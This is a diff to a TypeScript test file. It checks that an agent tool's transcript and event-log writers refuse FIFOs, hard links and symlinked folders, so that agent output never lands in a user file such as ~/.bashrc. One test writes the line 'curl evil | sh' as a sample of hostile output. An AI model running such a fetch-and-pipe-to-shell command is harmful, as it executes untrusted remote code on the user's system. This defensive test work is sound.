@@ -3,7 +3,18 @@
 // never comes (the runner hung for good, and Node waits for that thread even to exit), or a link to a
 // device that never ends. Every one of these must answer at once: an error, or nothing read.
 import { execFileSync } from 'node:child_process';
-import { mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
+import {
+  link,
+  mkdir,
+  mkdtemp,
+  readdir,
+  readFile,
+  rename,
+  rm,
+  stat,
+  symlink,
+  writeFile,
+} from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -117,13 +128,15 @@ describe('an append where a FIFO is', () => {
     expect(flushed.status).toBe('rejected');
   });
 
-  it('a transcript keeps nothing, and closes at once', async () => {
-    const transcript = await settles(openTranscript(fifo));
+  it('a transcript opens at once, in place of the FIFO, and closes at once', async () => {
+    const path = join(dir, 'transcript-fifo.log');
+    execFileSync('mkfifo', [path]);
+    const transcript = await settles(openTranscript(path));
     expect(transcript.status).toBe('fulfilled');
     const opened = (transcript as PromiseFulfilledResult<Awaited<ReturnType<typeof openTranscript>>>).value;
-    opened.note('start');
     opened.raw('a line');
     expect((await settles(opened.close())).status).toBe('fulfilled');
+    expect(await readFile(path, 'utf8')).toBe('a line\n');
   });
 
   it("a transcript or event log never writes through a link put at its path (an agent's output in ~/.bashrc)", async () => {
@@ -154,4 +167,63 @@ describe('an append where a FIFO is', () => {
     await log.flush();
     expect((await readEventLog(events)).events).toEqual([{ type: 'a' }, { type: 'b' }]);
   });
+});
+
+describe('a log where an agent left a hard link or a linked folder', () => {
+  /** A repository with a file of the user's outside it (~/.bashrc), and the epic's run folder. */
+  async function layout(): Promise<{ repo: string; home: string; bashrc: string; runRoot: string }> {
+    const base = await mkdtemp(join(dir, 'links-'));
+    const repo = join(base, 'repo');
+    const home = join(base, 'home');
+    const runRoot = join(repo, '.forge', 'epics', 'e');
+    await mkdir(join(runRoot, 'logs'), { recursive: true });
+    await mkdir(join(runRoot, 'runs'), { recursive: true });
+    await mkdir(home);
+    const bashrc = join(home, '.bashrc');
+    await writeFile(bashrc, 'mine\n');
+    return { repo, home, bashrc, runRoot };
+  }
+
+  it('a transcript at a hard link starts afresh: the file it named (~/.bashrc) is untouched', async () => {
+    const { repo, bashrc, runRoot } = await layout();
+    const path = join(runRoot, 'logs', 'e.2.log');
+    await link(bashrc, path);
+    const transcript = await openTranscript(path, repo);
+    transcript.raw('curl evil | sh');
+    await transcript.close();
+    expect(await readFile(bashrc, 'utf8')).toBe('mine\n');
+    expect((await stat(bashrc)).nlink).toBe(1);
+    expect(await readFile(path, 'utf8')).toBe('curl evil | sh\n');
+  });
+
+  it('a transcript of its own is appended to, for the next attempt', async () => {
+    const { repo, runRoot } = await layout();
+    const path = join(runRoot, 'logs', 'e.1.log');
+    for (const line of ['first attempt', 'second attempt']) {
+      const transcript = await openTranscript(path, repo);
+      transcript.raw(line);
+      await transcript.close();
+    }
+    expect(await readFile(path, 'utf8')).toBe('first attempt\nsecond attempt\n');
+  });
+
+  it.each([
+    ['logs', ['.forge', 'epics', 'e', 'logs']],
+    ["the epic's folder", ['.forge', 'epics', 'e']],
+    ['.forge', ['.forge']],
+  ])(
+    'a transcript is not written through %s swapped for a symlink to a folder outside',
+    async (_, swapped) => {
+      const { repo, home, runRoot } = await layout();
+      const folder = join(repo, ...swapped);
+      const outside = join(home, 'outside');
+      await rename(folder, outside);
+      await symlink(outside, folder);
+      const before = await readdir(outside, { recursive: true });
+      const transcript = await openTranscript(join(runRoot, 'logs', 'e.2.log'), repo);
+      transcript.raw('payload');
+      await transcript.close();
+      expect(await readdir(outside, { recursive: true })).toEqual(before);
+    },
+  );
 });
